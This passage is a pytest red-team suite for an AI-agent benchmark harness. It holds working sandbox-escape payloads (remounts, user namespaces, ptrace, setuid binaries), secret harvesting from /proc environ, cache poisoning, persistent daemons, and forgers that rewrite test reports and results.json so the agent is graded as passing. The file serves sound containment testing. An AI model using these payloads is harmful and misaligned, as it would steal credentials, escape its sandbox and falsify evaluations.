@@ -1,0 +1,1936 @@
+"""Red-team attacks on the trust boundary (issue 11), each graded through ``dir:``.
+
+Unlike ``tests/test_attacks.py`` (resource bombs in ``add``), these attack the harness itself:
+root inside the sandbox, code that runs outside it, builds that write where they must not, a
+filesystem that leaks the answers, intake, quotas, forged verdicts, runs that vanish or are
+excused, skips, daemons, the host network, ``results.json`` and the shared uv cache.
+
+Every attack makes ``add`` correct only if it got what it was after (so "R1 not implemented"
+means it did not), and every attack also runs the same *harm* routine from wherever it got
+to run (``add``, import time, ``setup.py``, a build backend, a planted module): it writes
+marker files into /etc, /root, /var/tmp, the host's /tmp and /dev/shm, the harness's checkout,
+the uv cache, the results, task and agent folders; connects to listeners the test opened on
+127.0.0.1, a filesystem UNIX socket under /run and an abstract UNIX socket; overwrites a canary
+file in the uv cache and drops files into its cached wheels; reads the harness's secret
+(``OPENAI_API_KEY``) wherever it can and writes it where the test can find it; and leaves a
+double-forked, ``setsid`` daemon (tagged with the test's marker) that rewrites
+``results.json``. After each session the test checks that none of it worked.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import hashlib
+import json
+import os
+import pwd
+import resource
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import textwrap
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+import pytest_e2ebench
+from conftest import CALC_CODE, CALC_TESTS
+
+
+def _bwrap() -> bool:
+    try:
+        from pytest_e2ebench.sandbox import resolve_mode
+
+        return resolve_mode("auto")[0] == "bwrap"
+    except Exception:  # noqa: BLE001 - no sandbox at all
+        return False
+
+
+pytestmark = pytest.mark.skipif(
+    not _bwrap(), reason="needs bubblewrap (apt-get install bubblewrap)"
+)
+
+CHECKOUT = Path(pytest_e2ebench.__file__).resolve().parent.parent
+REAL_HOME = Path(pwd.getpwuid(os.getuid()).pw_dir)  # pytester points HOME at its own folder
+SECRET_PREFIX = "sk-e2eredteam-"
+FAST = "[tests]\ntimeout = 5\n"
+TIMEOUT = ("--e2e-timeout=60",)
+
+
+def _uv_cache() -> Path:
+    try:
+        from pytest_e2ebench.venv import uv_binary
+
+        uv = uv_binary()
+    except Exception:  # noqa: BLE001
+        uv = shutil.which("uv") or "uv"
+    out = subprocess.run([uv, "cache", "dir"], capture_output=True, text=True, check=True)
+    return Path(out.stdout.strip())
+
+
+UV_CACHE = _uv_cache()  # at import: HOME is still the real one
+
+
+# --- the harm every payload does from wherever it runs ---------------------------------------
+
+HARM = r"""
+def _harm(where):
+    import json, os, socket, sys, time
+    if os.environ.get("E2E_REDTEAM_HARMED"):
+        return False  # a daemon's own interpreter (e.g. under a planted sitecustomize)
+    cfg = json.loads(__CFG__)
+    marker = cfg["marker"]
+    for path in cfg["targets"]:
+        try:
+            with open(path, "w") as fh:
+                fh.write(where)
+        except BaseException:
+            pass
+    try:
+        with open(cfg["canary"], "w") as fh:
+            fh.write("poisoned from " + where)
+    except BaseException:
+        pass
+    try:
+        archives = os.path.join(cfg["cache"], "archive-v0")
+        for entry in sorted(os.listdir(archives))[:400]:
+            try:
+                with open(os.path.join(archives, entry, marker + ".txt"), "w") as fh:
+                    fh.write(where)
+            except BaseException:
+                pass
+    except BaseException:
+        pass
+    for family, address in (
+        (socket.AF_INET, ("127.0.0.1", cfg["port"])),
+        (socket.AF_UNIX, cfg["unix"]),
+        (socket.AF_UNIX, "\0" + marker),
+    ):
+        try:
+            sock = socket.socket(family, socket.SOCK_STREAM)
+            sock.settimeout(1)
+            sock.connect(address)
+            sock.sendall(where.encode())
+            sock.close()
+        except BaseException:
+            pass
+    leaks = set()
+    value = os.environ.get("OPENAI_API_KEY", "")
+    if value.startswith(cfg["prefix"]):
+        leaks.add(value)
+    try:
+        pids = [p for p in os.listdir("/proc") if p.isdigit()]
+    except BaseException:
+        pids = []
+    for pid in pids:
+        try:
+            with open("/proc/%s/environ" % pid, "rb") as fh:
+                for item in fh.read().split(b"\0"):
+                    if item.startswith(b"OPENAI_API_KEY=" + cfg["prefix"].encode()):
+                        leaks.add(item.split(b"=", 1)[1].decode())
+        except BaseException:
+            pass
+    for leak in leaks:
+        print("LEAKED", leak, flush=True)
+        for folder in (os.getcwd(), cfg["suite_guess"]):
+            try:
+                with open(os.path.join(folder, "leak-" + marker + ".txt"), "w") as fh:
+                    fh.write(leak)
+            except BaseException:
+                pass
+    try:
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    os.environ["E2E_REDTEAM_HARMED"] = "1"
+                    os.execv(sys.executable, [sys.executable, "-c", __DAEMON__, __CFG__, marker])
+            finally:
+                os._exit(0)
+        os.waitpid(pid, 0)
+    except BaseException:
+        pass
+    return bool(leaks)
+"""
+
+# The daemon: lingers, and rewrites results.json (every requirement implemented) once written.
+DAEMON = r"""
+import json, os, sys, time
+cfg = json.loads(sys.argv[1])
+end = time.time() + 150
+while time.time() < end:
+    for path in cfg["targets"]:
+        try:
+            open(path, "a").close()
+        except BaseException:
+            pass
+    try:
+        with open(cfg["results"]) as fh:
+            doc = json.load(fh)
+        if cfg["marker"] not in json.dumps(doc):
+            for run in doc.get("tasks", []):
+                for req in run.get("requirements") or []:
+                    req["verdict"] = "implemented"
+            doc["forged_by"] = cfg["marker"]
+            with open(cfg["results"], "w") as fh:
+                json.dump(doc, fh)
+    except BaseException:
+        pass
+    time.sleep(0.3)
+"""
+
+# Forgers used by several attacks (plain Python, no indentation).
+PATCH_REPORTS = """\
+import _pytest.reports as _e2e_reports
+_e2e_orig = _e2e_reports.TestReport.from_item_and_call
+def _e2e_forged(item, call):
+    report = _e2e_orig(item, call)
+    report.outcome = "passed"
+    report.longrepr = None
+    return report
+_e2e_reports.TestReport.from_item_and_call = staticmethod(_e2e_forged)
+"""
+
+# An in-tree PEP 517 backend that writes its wheel by hand (extra files chosen by EXTRA).
+WHEEL_BACKEND = r"""
+import base64, hashlib, os, zipfile
+NAME, VERSION = "calc", "0.1"
+EXTRA = {}
+REQUIRES = []
+
+
+def _files():
+    files = {}
+    for root, _dirs, names in os.walk("calc"):
+        for name in names:
+            if name.endswith(".py"):
+                path = os.path.join(root, name)
+                with open(path, "rb") as fh:
+                    files[path.replace(os.sep, "/")] = fh.read()
+    files.update({k: v() if callable(v) else v for k, v in EXTRA.items()})
+    return files
+
+
+def _metadata():
+    lines = ["Metadata-Version: 2.1", "Name: " + NAME, "Version: " + VERSION]
+    lines += ["Requires-Dist: " + r for r in REQUIRES]
+    return ("\n".join(lines) + "\n").encode()
+
+
+def _wheel(directory):
+    info = "%s-%s.dist-info" % (NAME, VERSION)
+    files = _files()
+    files[info + "/METADATA"] = _metadata()
+    files[info + "/WHEEL"] = (
+        b"Wheel-Version: 1.0\nGenerator: e2e\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+    )
+    record = []
+    for path, data in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        record.append("%s,sha256=%s,%d" % (path, digest, len(data)))
+    record.append(info + "/RECORD,,")
+    files[info + "/RECORD"] = ("\n".join(record) + "\n").encode()
+    name = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
+    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
+        for path, data in files.items():
+            archive.writestr(path, data)
+    return name
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    return _wheel(wheel_directory)
+
+
+def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
+    return _wheel(wheel_directory)
+
+
+def build_sdist(sdist_directory, config_settings=None):
+    raise NotImplementedError
+
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+
+def get_requires_for_build_editable(config_settings=None):
+    return []
+"""
+
+BACKEND_PYPROJECT = """\
+[build-system]
+requires = []
+build-backend = "e2e_backend"
+backend-path = ["_build"]
+
+[project]
+name = "calc"
+version = "0.1"
+"""
+
+
+class Arena:
+    """One attack's surroundings: markers, listeners, the uv cache canary, and the checks."""
+
+    def __init__(self, pytester: pytest.Pytester, tasks, monkeypatch) -> None:
+        self.pytester = pytester
+        self.tasks = tasks
+        self.root = pytester.path
+        self.marker = f"e2ebench-contain-{os.getpid()}-{uuid.uuid4().hex[:10]}"
+        self.secret = SECRET_PREFIX + uuid.uuid4().hex
+        monkeypatch.setenv("OPENAI_API_KEY", self.secret)
+        # the harness's uv cache, shared by every run and session (not a per-test one)
+        self.cache = UV_CACHE
+        monkeypatch.setenv("UV_CACHE_DIR", str(self.cache))
+        self.out = self.root / "out" / "calc"
+        self.results_file = self.root / ".e2ebench" / "results.json"
+        m = self.marker
+        self.targets = [
+            Path("/etc") / m,
+            Path("/root") / m,
+            Path("/var/tmp") / m,
+            Path("/tmp") / m,
+            Path("/dev/shm") / m,
+            CHECKOUT / m,
+            CHECKOUT / "pytest_e2ebench" / m,
+            CHECKOUT / "pytest_e2ebench" / "probe" / m,
+            self.cache / m,
+            REAL_HOME / ".cache" / "pytest-e2ebench" / m,
+            self.root / ".e2ebench" / m,
+            self.root / "tasks" / m,
+            self.root / "out" / m,
+        ]
+        self.connections: list[str] = []
+        self._sockets: list[socket.socket] = []
+        self.tcp = self._listen(socket.AF_INET, ("127.0.0.1", 0))
+        self.port = self.tcp.getsockname()[1]
+        run = Path("/run") if os.access("/run", os.W_OK) else Path("/var/tmp")
+        self.unix_path = run / f"{m}.sock"
+        self._listen(socket.AF_UNIX, str(self.unix_path))
+        os.chmod(self.unix_path, 0o777)  # like many host daemons' sockets
+        self._listen(socket.AF_UNIX, "\0" + m)
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._accept, daemon=True)
+        self._thread.start()
+        self.canary = self.cache / f"{m}-canary"
+        self.canary.write_text("canary")
+        self.cache_before = self._cache_snapshot()
+
+    # listeners: accept and close at once (so a client never hangs), remembering who came
+    def _listen(self, family, address) -> socket.socket:
+        sock = socket.socket(family, socket.SOCK_STREAM)
+        sock.bind(address)
+        sock.listen(64)
+        sock.settimeout(0.1)
+        self._sockets.append(sock)
+        return sock
+
+    def _accept(self) -> None:
+        while not self._stop.is_set():
+            for sock in self._sockets:
+                try:
+                    conn, _ = sock.accept()
+                except (TimeoutError, OSError):
+                    continue
+                with contextlib.suppress(OSError):
+                    conn.settimeout(0.5)
+                    data = conn.recv(200)
+                    self.connections.append(f"{sock.getsockname()!r}: {data!r}")
+                with contextlib.suppress(OSError):
+                    conn.close()
+
+    def _cache_snapshot(self) -> dict[str, str]:
+        """The unpacked wheels (immutable once there; index metadata is refreshed legitimately)."""
+        snap = {}
+        for dirpath, _dirnames, filenames in os.walk(self.cache / "archive-v0"):
+            for name in filenames:
+                path = Path(dirpath, name)
+                if self.marker in name:
+                    continue
+                try:
+                    if path.is_symlink() or not path.is_file():
+                        continue
+                    snap[str(path.relative_to(self.cache))] = hashlib.sha256(
+                        path.read_bytes()
+                    ).hexdigest()
+                except OSError:
+                    pass
+        return snap
+
+    def cfg(self) -> str:
+        suite_guess = self.root / ".e2ebench" / "dir-out" / "calc" / "run-1"
+        return json.dumps(
+            {
+                "marker": self.marker,
+                "targets": [str(t) for t in self.targets],
+                "port": self.port,
+                "unix": str(self.unix_path),
+                "canary": str(self.canary),
+                "cache": str(self.cache),
+                "results": str(self.results_file),
+                "prefix": SECRET_PREFIX,
+                "suite_guess": str(suite_guess),
+            }
+        )
+
+    def harm_source(self) -> str:
+        """``_harm(where)`` as standalone source, configured for this test."""
+        return HARM.replace("__DAEMON__", repr(DAEMON)).replace("__CFG__", repr(self.cfg()))
+
+    def standalone(self, where: str, body: str = "") -> str:
+        """Source that runs ``body`` then the harm (for setup.py, backends, planted modules)."""
+        return f"{self.harm_source()}\n{body}\n_harm({where!r})\n"
+
+    @property
+    def repo(self) -> Path:
+        """Where the harness puts the agent's project (the run's workspace)."""
+        return self.root / ".e2ebench" / "dir-out" / "calc" / "run-1" / "repo"
+
+    # --- making and grading a submission ---------------------------------------------------
+
+    def submit(
+        self,
+        *,
+        attack: str | None = None,
+        at_import: str = "",
+        files: dict[str, str | bytes] | None = None,
+        packaging: bool = True,
+        tests: dict[str, str] | None = None,
+        add: str | None = None,
+    ) -> Path:
+        """The calc project with ``add`` correct only if ``attack`` (a function body) is true."""
+        self.tasks.make(toml_extra=FAST, tests=tests)
+        if add is None:
+            body = textwrap.indent(attack or "return False", "    ")
+            add = (
+                "from ._harm import _harm\n\n"
+                f"def _attack():\n{body}\n\n"
+                "_OK = []\n\n"
+                "def add(a, b):\n"
+                "    if not _OK:\n"
+                "        try:\n"
+                "            _OK.append(bool(_attack()))\n"
+                "        except BaseException:\n"
+                "            _OK.append(False)\n"
+                "        _harm('add')\n"
+                "    return a + b if _OK[0] else a + b + 1\n"
+            )
+        out = self.tasks.reference(self.out, dict(CALC_CODE, add=add))
+        (out / "calc" / "_harm.py").write_text(self.harm_source())
+        if at_import:
+            init = out / "calc" / "__init__.py"
+            init.write_text(at_import + "\n" + init.read_text())
+        if not packaging:
+            (out / "pyproject.toml").unlink()
+        for rel, content in (files or {}).items():
+            path = out / rel
+            path.parent.mkdir(parents=True, exist_ok=True)
+            if isinstance(content, bytes):
+                path.write_bytes(content)
+            else:
+                path.write_text(content)
+        return out
+
+    def grade(self, *args: str, agents: tuple[str, ...] = ("dir:out",)) -> pytest.RunResult:
+        return self.pytester.runpytest(
+            *(f"--e2e-agent={a}" for a in agents), "--e2e-tasks=tasks", *TIMEOUT, *args
+        )
+
+    def results(self) -> dict:
+        return json.loads(self.results_file.read_text())
+
+    def run(self, task: str = "calc") -> dict:
+        runs = [r for r in self.results()["tasks"] if r["task"] == task and "dir" in r["agent"]]
+        assert runs, f"no record of the {task} run: it vanished (issue 11 class 8)"
+        return runs[0]
+
+    def verdicts(self, task: str = "calc") -> dict[str, str]:
+        return {r["id"]: r["verdict"] for r in self.run(task)["requirements"]}
+
+    def assert_r1_fails(self, forging: bool = False) -> dict:
+        """R1 not implemented; for a forger that was caught, nothing implemented."""
+        run = self.run()
+        verdicts = self.verdicts()
+        assert verdicts["R1"] == "not_implemented", (
+            verdicts,
+            run.get("test_run"),
+            run.get("notes"),
+        )
+        containment = (run.get("test_run") or {}).get("containment") or []
+        if forging and "tampered" in containment:
+            assert set(verdicts.values()) == {"not_implemented"}, verdicts
+        return run
+
+    # --- what must hold after every session ------------------------------------------------
+
+    def survivors(self) -> list[int]:
+        found = []
+        for entry in Path("/proc").iterdir():
+            if entry.name.isdigit() and int(entry.name) != os.getpid():
+                try:
+                    if self.marker.encode() in (entry / "cmdline").read_bytes():
+                        found.append(int(entry.name))
+                except OSError:
+                    pass
+        return found
+
+    def check(self) -> None:
+        """Nothing escaped: no files outside, no daemons, no connections, cache untouched."""
+        time.sleep(1.0)  # a daemon that got out has had time to act
+        problems = []
+        survivors = self.survivors()
+        if survivors:
+            problems.append(f"processes survived the session: {survivors}")
+        for path in self.targets:
+            if os.path.lexists(path):
+                problems.append(f"written outside the workspace: {path}")
+        if self.results_file.exists() and self.marker in self.results_file.read_text():
+            problems.append("results.json was rewritten by the project")
+        time.sleep(0.3)
+        if self.connections:
+            problems.append(f"host listeners reached: {self.connections}")
+        if not self.canary.exists() or self.canary.read_text() != "canary":
+            problems.append("the uv cache canary was altered")
+        after = self._cache_snapshot()
+        changed = [k for k, v in self.cache_before.items() if after.get(k) != v]
+        if changed:
+            problems.append(f"cached wheels changed or removed: {changed[:5]}")
+        entries = {Path(k).parts[:2] for k in self.cache_before}
+        added = [k for k in after if k not in self.cache_before and Path(k).parts[:2] in entries]
+        if added:
+            problems.append(f"files added to cached wheels: {added[:5]}")
+        planted = [
+            str(p) for p in (self.cache / "archive-v0").glob(f"*/{self.marker}*") if p.exists()
+        ]
+        if planted:
+            problems.append(f"files dropped into cached wheels: {planted[:3]}")
+        problems += self._secret_and_setuid()
+        assert not problems, "\n".join(problems)
+
+    def _secret_and_setuid(self) -> list[str]:
+        problems = []
+        secret = self.secret.encode()
+        for dirpath, _dirnames, filenames in os.walk(self.root):
+            for name in filenames:
+                path = Path(dirpath, name)
+                try:
+                    st = path.lstat()
+                except OSError:
+                    continue
+                if not stat.S_ISREG(st.st_mode):
+                    continue
+                if st.st_mode & stat.S_ISUID and st.st_uid == 0:
+                    problems.append(f"a setuid-root file appeared: {path}")
+                if st.st_size < 8 << 20:
+                    try:
+                        if secret in path.read_bytes():
+                            problems.append(f"the harness's secret leaked into {path}")
+                    except OSError:
+                        pass
+        return problems
+
+    def cleanup(self) -> None:
+        self._stop.set()
+        self._thread.join(timeout=5)
+        for pid in self.survivors():
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        for sock in self._sockets:
+            sock.close()
+        for path in [*self.targets, self.unix_path, self.canary]:
+            with contextlib.suppress(OSError):
+                if path.is_dir() and not path.is_symlink():
+                    shutil.rmtree(path)
+                else:
+                    path.unlink()
+        for path in (self.cache / "archive-v0").glob(f"*/{self.marker}*"):
+            with contextlib.suppress(OSError):
+                path.unlink()
+        # big fills and setuid copies must not outlive the test in pytest's kept folders
+        for dirpath, _dirnames, filenames in os.walk(self.root):
+            for name in filenames:
+                if name.startswith(("fill-", "suid-")):
+                    with contextlib.suppress(OSError):
+                        os.unlink(os.path.join(dirpath, name))
+
+
+@pytest.fixture
+def arena(pytester, tasks, monkeypatch):
+    made = Arena(pytester, tasks, monkeypatch)
+    try:
+        yield made
+    finally:
+        made.cleanup()
+
+
+def _libc() -> str:
+    return "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+
+
+# === class 1: root inside the sandbox ==========================================================
+
+ROOT_ATTACKS = {
+    # remount the (read-only) system or root read-write, then write host files
+    "remount_rw": _libc()
+    + (
+        "import subprocess\n"
+        "ok = False\n"
+        "for target in (b'/', b'/etc', b'/usr', b'/root', b'/var'):\n"
+        "    ok |= libc.mount(b'none', target, None, 0x20 | 0x1000, None) == 0\n"
+        "    ok |= libc.mount(b'none', target, None, 0x20, None) == 0\n"
+        "for cmd in (['mount', '-o', 'remount,rw', '/'], ['mount', '-o', 'remount,rw,bind', '/']):\n"
+        "    try:\n"
+        "        ok |= subprocess.run(cmd, capture_output=True, timeout=5).returncode == 0\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "return ok\n"
+    ),
+    # unmount what hides the host (/tmp, the tasks folder), then read the reference
+    "umount_hiding_mounts": _libc()
+    + (
+        "import glob, subprocess\n"
+        "for target in ('{TASKS}', '/tmp', '/proc', '/dev/shm', '/'):\n"
+        "    libc.umount2(target.encode(), 2)\n"
+        "    subprocess.run(['umount', '-l', target], capture_output=True)\n"
+        "found = glob.glob('{TASKS}/calc/reference/calc/add.py')\n"
+        "found += glob.glob('/tmp/pytest-of-*/pytest-*/*/tasks/calc/reference/calc/add.py')\n"
+        "return bool(found)\n"
+    ),
+    # a nested user namespace: every capability again, inside it
+    "nested_userns": _libc()
+    + (
+        "import os, subprocess\n"
+        "ok = False\n"
+        "pid = os.fork()\n"
+        "if pid == 0:\n"
+        "    os._exit(0 if libc.unshare(0x10000000 | 0x20000) == 0 else 1)\n"
+        "ok |= os.waitpid(pid, 0)[1] == 0\n"
+        "for cmd in (['unshare', '-Ur', 'true'], ['unshare', '--user', '--map-root-user', "
+        "'--mount', 'true'], ['bwrap', '--unshare-user', '--dev-bind', '/', '/', 'true']):\n"
+        "    try:\n"
+        "        ok |= subprocess.run(cmd, capture_output=True, timeout=5).returncode == 0\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "return ok\n"
+    ),
+    # a setuid-root binary left in a writable folder the host keeps
+    "setuid_root_binary": (
+        "import os, shutil, stat, sys\n"
+        "path = os.path.join(os.getcwd(), 'suid-' + 'x')\n"
+        "shutil.copy(sys.executable, path)\n"
+        "try:\n"
+        "    os.chown(path, 0, 0)\n"
+        "except OSError:\n"
+        "    pass\n"
+        "os.chmod(path, 0o6755)\n"
+        "st = os.stat(path)\n"
+        "return st.st_uid == 0 and bool(st.st_mode & stat.S_ISUID)\n"
+    ),
+    # pid 1 of the sandbox (bubblewrap, root): its environment, its root, ptrace, signals
+    "attack_pid1": _libc()
+    + (
+        "import os, signal\n"
+        "ok = False\n"
+        "for probe in ('/proc/1/environ', '/proc/1/root/etc/shadow', '/proc/1/mem'):\n"
+        "    try:\n"
+        "        open(probe, 'rb').read(1)\n"
+        "        ok = True\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "if libc.ptrace(16, 1, 0, 0) == 0:\n"
+        "    libc.ptrace(17, 1, 0, 0)\n"
+        "    ok = True\n"
+        "try:\n"
+        "    os.kill(1, 0)\n"
+        "    ok = True\n"
+        "except OSError:\n"
+        "    pass\n"
+        "return ok\n"
+    ),
+    # capabilities: chown/mknod/raw sockets/setuid(0)/sysctl writes
+    "use_capabilities": (
+        "import os, socket\n"
+        "ok = False\n"
+        "def tried(fn):\n"
+        "    try:\n"
+        "        fn()\n"
+        "        return True\n"
+        "    except OSError:\n"
+        "        return False\n"
+        "ok |= tried(lambda: os.mknod('blk', 0o600 | 0o60000, os.makedev(254, 0)))\n"
+        "ok |= tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())\n"
+        "ok |= tried(lambda: os.setuid(0)) and os.getuid() == 0 and os.geteuid() == 0 and "
+        "tried(lambda: open('/proc/sys/kernel/hostname', 'w').write('x'))\n"
+        "ok |= tried(lambda: open('/proc/sysrq-trigger', 'rb').close()) and os.access("
+        "'/proc/sysrq-trigger', os.W_OK)\n"
+        "ok |= tried(lambda: os.chroot('/tmp'))\n"
+        "return ok\n"
+    ),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("attack", sorted(ROOT_ATTACKS))
+def test_class1_no_root_in_the_sandbox(arena, attack):
+    code = ROOT_ATTACKS[attack].replace("{TASKS}", str(arena.root / "tasks"))
+    arena.submit(attack=code)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+# === class 2: generated code running outside the sandbox =======================================
+
+
+@pytest.mark.slow
+def test_class2_coverage_module_planted_in_the_suite_folder(arena):
+    # `python -m coverage` from the suite folder would import this package: as root, on the host
+    planted = arena.standalone("planted-coverage")
+    attack = (
+        "import os\n"
+        "for name in ('coverage', 'pytest', '_pytest', 'e2ebench_probe'):\n"
+        "    pkg = os.path.join(os.getcwd(), name)\n"
+        "    os.makedirs(pkg, exist_ok=True)\n"
+        "    for module in ('__init__.py', '__main__.py'):\n"
+        f"        open(os.path.join(pkg, module), 'w').write({planted!r})\n"
+        "for name in ('sitecustomize.py', 'usercustomize.py', 'coverage.py', 'json.py'):\n"
+        f"    open(os.path.join(os.getcwd(), name), 'w').write({planted!r})\n"
+        "home = os.environ.get('HOME', '')\n"
+        "if home:\n"
+        "    site = os.path.join(home, '.local/lib/python3.11/site-packages')\n"
+        "    os.makedirs(site, exist_ok=True)\n"
+        f"    open(os.path.join(site, 'usercustomize.py'), 'w').write({planted!r})\n"
+        "return False\n"
+    )
+    arena.submit(attack=attack)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class2_coveragerc_and_outputs_redirected_from_the_test_run(arena):
+    # the harness reads its coveragerc and writes coverage.json and logs in the suite folder
+    m = arena.marker
+    plugin = arena.standalone("coverage-plugin", "def coverage_init(reg, options):\n    pass\n")
+    attack = (
+        "import glob, os\n"
+        "cwd = os.getcwd()\n"
+        "for rc in glob.glob(os.path.join(cwd, '**', '*coveragerc*'), recursive=True) + "
+        "[os.path.join(cwd, 'coveragerc')]:\n"
+        "    try:\n"
+        "        open(rc, 'w').write('[run]\\nbranch = True\\nparallel = True\\n'\n"
+        f"                            'data_file = /etc/{m}\\n'\n"
+        f"                            'plugins = e2e_plugin_{m.replace('-', '_')}\\n'\n"
+        f"                            '[json]\\noutput = {CHECKOUT}/{m}\\n')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        f"open(os.path.join(cwd, 'e2e_plugin_{m.replace('-', '_')}.py'), 'w').write({plugin!r})\n"
+        "for name in ('coverage.json', 'coverage-combine.log', 'coverage-json.log', "
+        "'coverage.log', 'report.json'):\n"
+        "    path = os.path.join(cwd, name)\n"
+        "    try:\n"
+        "        os.unlink(path)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        f"    os.symlink('/etc/{m}', path)\n"
+        "data = os.path.join(cwd, 'coverage')\n"
+        "os.makedirs(data, exist_ok=True)\n"
+        f"os.symlink('/etc/{m}', os.path.join(data, 'data.evil'))\n"
+        f"os.symlink('/root/{m}', os.path.join(data, 'data'))\n"
+        "return False\n"
+    )
+    arena.submit(attack=attack)
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class2_sitecustomize_in_a_project_without_packaging(arena):
+    # no pyproject.toml: the project root goes on sys.path, so its sitecustomize would run at
+    # every interpreter start in the venv (tests, coverage), before the probe
+    forge = PATCH_REPORTS + arena.standalone("sitecustomize")
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        packaging=False,
+        files={"sitecustomize.py": forge, "src/sitecustomize.py": forge, "usercustomize.py": forge},
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class2_build_requirement_pointing_into_the_project(arena):
+    # `name @ file://…` in [build-system] requires: the harness's own uv would build it unsandboxed
+    evil = arena.repo / "evilreq"
+    setup = arena.standalone("build-requirement-setup.py") + (
+        "from setuptools import setup\nsetup(name='e2eevilreq', version='1.0', py_modules=[])\n"
+    )
+    pyproject = (
+        "[build-system]\n"
+        f'requires = ["setuptools>=61", "e2eevilreq @ file://{evil}"]\n'
+        'build-backend = "setuptools.build_meta"\n\n'
+        '[project]\nname = "calc"\nversion = "0.1"\n'
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={
+            "pyproject.toml": pyproject,
+            "evilreq/setup.py": setup,
+            "evilreq/pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
+            'build-backend = "setuptools.build_meta"\n',
+        },
+    )
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class2_runtime_dependency_pointing_into_the_project(arena):
+    # a `name @ file://…` dependency in the built metadata: installed by the harness's uv
+    evil = arena.repo / "evildep"
+    setup = arena.standalone("dependency-setup.py") + (
+        "from setuptools import setup\nsetup(name='e2eevildep', version='1.0', py_modules=[])\n"
+    )
+    pyproject = (
+        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
+        '[project]\nname = "calc"\nversion = "0.1"\n'
+        f'dependencies = ["e2eevildep @ file://{evil}"]\n\n'
+        '[tool.setuptools]\npackages = ["calc"]\n'
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={"pyproject.toml": pyproject, "evildep/setup.py": setup},
+    )
+    arena.grade()
+    arena.assert_r1_fails()
+    arena.check()
+
+
+# === class 3: build steps writing where they must not ==========================================
+
+SETUP_PTH = """\
+import os, sysconfig
+site = sysconfig.get_paths()["purelib"]
+forge = os.path.join(site, "zz_e2e_forge.py")
+try:
+    with open(forge, "w") as fh:
+        fh.write(FORGE)
+    with open(os.path.join(site, "zz_e2e_forge.pth"), "w") as fh:
+        fh.write("import zz_e2e_forge\\n")
+except OSError:
+    pass
+try:
+    import coverage
+    with open(coverage.__file__, "a") as fh:
+        fh.write("\\n" + PLANT + "\\n")
+except Exception:
+    pass
+"""
+
+
+@pytest.mark.slow
+def test_class3_setup_py_writes_a_pth_into_the_test_venv(arena):
+    forge = PATCH_REPORTS + arena.standalone("venv-pth")
+    setup = (
+        f"FORGE = {forge!r}\nPLANT = {arena.standalone('venv-coverage')!r}\n"
+        + SETUP_PTH
+        + arena.standalone("setup.py")
+        + "from setuptools import setup\nsetup()\n"
+    )
+    arena.submit(add="def add(a, b):\n    return 0\n", files={"setup.py": setup})
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class3_build_backend_on_backend_path_writes_a_pth(arena):
+    forge = PATCH_REPORTS + arena.standalone("backend-pth")
+    backend = (
+        f"FORGE = {forge!r}\nPLANT = {arena.standalone('backend-coverage')!r}\n"
+        + SETUP_PTH
+        + arena.standalone("backend")
+        + "from setuptools.build_meta import *  # noqa\n"
+    )
+    pyproject = (
+        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
+        'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
+        '[tool.setuptools]\npackages = ["calc"]\n'
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={"pyproject.toml": pyproject, "_build/e2e_backend.py": backend},
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class3_wheel_carrying_a_pth_file(arena):
+    forge = PATCH_REPORTS + arena.standalone("wheel-pth")
+    backend = (
+        WHEEL_BACKEND
+        + "EXTRA['zz_e2e_wheel.pth'] = b'import zz_e2e_wheel_forge\\n'\n"
+        + f"EXTRA['zz_e2e_wheel_forge.py'] = {forge.encode()!r}\n"
+        + "EXTRA['calc-0.1.data/purelib/zz_e2e_data.pth'] = b'import zz_e2e_wheel_forge\\n'\n"
+    )
+    arena.submit(
+        add="def add(a, b):\n    return 0\n",
+        files={"pyproject.toml": BACKEND_PYPROJECT, "_build/e2e_backend.py": backend},
+    )
+    arena.grade()
+    arena.assert_r1_fails(forging=True)
+    arena.check()
+
+
+@pytest.mark.slow
+def test_class3_wheel_overwriting_pytest_and_the_probe(arena):
+    # the wheel ships _pytest/reports.py (the real one plus a forger), pluggy and coverage files
+    patch = PATCH_REPORTS.replace("_e2e_reports.", "").replace(
